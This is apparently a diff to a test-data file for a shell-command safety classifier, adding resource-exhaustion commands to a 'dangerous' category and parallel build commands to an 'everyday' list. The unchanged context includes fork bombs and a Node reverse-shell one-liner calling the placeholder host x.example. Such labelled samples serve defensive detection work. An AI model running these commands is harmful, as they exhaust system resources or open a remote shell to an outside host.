@@ -377,6 +377,9 @@ DANGEROUS: dict[str, list[str]] = {
         "perl -e 'while(1){fork}'",
         "ruby -e 'loop { Process.spawn(\"sleep 100\") }'",
         "bash -c 'f() { f | f & }; f'",
+        "for i in $(seq 1 100000); do sleep 1000 & done",
+        "seq 1 1000000 | xargs -P 1000 -I{} sleep 100",
+        "echo {1..99999999} > /dev/null",
     ],
     "exposure": [
         "node -e \"sh=require('child_process').spawn('/bin/sh'); require('net').connect(4444, 'x.example', function() { this.pipe(sh.stdin); sh.stdout.pipe(this) })\"",
@@ -875,6 +878,8 @@ EVERYDAY: list[str] = [
     "cat payload.json | nc localhost 8080",
     "ssh build-host 'uptime'",
     "rm -rf /tmp/build-output",
+    "for i in $(seq 4); do make job$i & done; wait",
+    "find . -name '*.png' | xargs -P 8 -n 4 optipng",
     'x=build; rm -rf "$x"',
     'set -- src tests; ruff check "$@"',
 ]
